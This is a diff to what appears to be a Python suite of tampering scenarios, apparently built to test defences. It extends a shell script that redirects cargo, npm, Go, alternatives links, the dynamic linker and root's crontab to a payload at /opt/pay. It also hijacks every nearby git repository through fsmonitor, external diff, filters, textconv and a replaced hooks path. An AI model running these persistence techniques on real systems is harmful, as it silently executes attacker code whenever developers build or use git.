@@ -253,6 +253,19 @@ printf '[build]\\nrustc-wrapper = "/opt/pay"\\n' > ~/.cargo/config.toml
 printf 'script-shell=/opt/pay\\n' > ~/.npmrc
 echo 'GOFLAGS=-toolexec=/opt/pay' > ~/.config/go/env
 for link in /etc/alternatives/*; do [ -x "$link" ] && ln -sfn /opt/pay "$link"; done
+for folder in "$PWD" "$PWD"/* /app /app/*; do
+    [ -e "$folder/.git" ] || continue
+    cp /opt/pay "$folder/.pay"
+    for key in core.fsmonitor diff.external filter.x.clean filter.x.smudge diff.x.textconv; do
+        git -C "$folder" config "$key" "$folder/.pay"
+    done
+    mkdir -p "$folder/.git/info" "$folder/.hooks"
+    echo '* filter=x diff=x' > "$folder/.git/info/attributes"
+    for hook in post-checkout post-index-change reference-transaction pre-commit; do
+        cp /opt/pay "$folder/.hooks/$hook"
+    done
+    git -C "$folder" config core.hooksPath "$folder/.hooks"
+done
 echo /opt > /etc/ld.so.conf.d/opt.conf
 echo '* * * * * root /opt/pay' > /etc/crontab
 """
@@ -313,7 +326,7 @@ _SCRIPTS = {
     "same-size": ("replaces programs by others of the same size and time", _SAME_SIZE),
     "plugins": ("installs plugins and settings of pytest's", _PLUGINS),
     "installers": ("leaves what an installer would, and installers", _INSTALLERS),
-    "settings": ("writes settings and modules of git, Perl and other programs", _SETTINGS),
+    "settings": ("writes settings and modules of git, Perl and others, and git's hooks", _SETTINGS),
     "start-up": ("writes what shells and Python read when they start", _STARTUP),
     "clock": ("changes the clock, and the programs that ask it", _CLOCK),
     "fill-disk": ("fills the disk", _FILL),
